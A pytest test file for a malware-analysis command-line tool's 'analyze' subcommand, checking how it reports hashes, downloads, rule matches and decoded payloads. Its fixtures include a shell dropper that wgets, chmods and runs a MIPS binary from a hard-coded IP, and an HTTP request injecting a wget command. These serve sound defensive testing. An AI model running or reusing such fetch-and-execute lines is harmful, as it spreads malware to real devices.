"""`eudaemon analyze`: what people and machines are told of a file."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from eudaemon.cli import main

SCRIPT = b"#!/bin/sh\nwget http://45.9.8.7/x.mips; chmod 777 x.mips; ./x.mips\necho \x1b[2J\n"


def test_a_script_for_machines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "x.sh"
    path.write_bytes(SCRIPT)
    assert main(["analyze", "--json", str(path)]) == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["format"], found["size"]) == ("script", len(SCRIPT))
    assert found["sha256"] == hashlib.sha256(SCRIPT).hexdigest()
    assert found["downloads"] == [{"url": "http://45.9.8.7/x.mips", "tool": "wget", "name": "x.mips"}]
    assert found["rules"] == ["Script_Fetches_And_Runs"]
    assert found["fuzzy"].count(":") == 2


def test_a_script_for_people(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "x.sh"
    path.write_bytes(SCRIPT)
    assert main(["analyze", str(path)]) == 0
    text = capsys.readouterr().out
    assert text.startswith("POSIX shell script\n")
    assert "would download:\n  http://45.9.8.7/x.mips  (wget, as x.mips)\n" in text
    assert "\x1b" not in text  # a sample does not get to speak to the terminal


def test_layers_are_shown(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "request"
    path.write_bytes(b"GET /?c=wget%20http%3A%2F%2F192.168.0.9%2Fx HTTP/1.1\r\n\r\n")
    assert main(["analyze", str(path)]) == 0
    text = capsys.readouterr().out
    assert "decoded:\n  GET /?c=wget http://192.168.0.9/x HTTP/1.1" in text
    assert "names a private address:\n  http://192.168.0.9/x\n" in text


def test_an_empty_file_is_one(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "empty"
    path.touch()
    assert main(["analyze", str(path)]) == 0
    assert capsys.readouterr().out.startswith("empty file\n")


@pytest.mark.parametrize("name", ["nothing", "."])
def test_a_file_that_cannot_be_read_is_named(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["analyze", str(tmp_path / name)]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith(f"eudaemon: {tmp_path / name}: ")
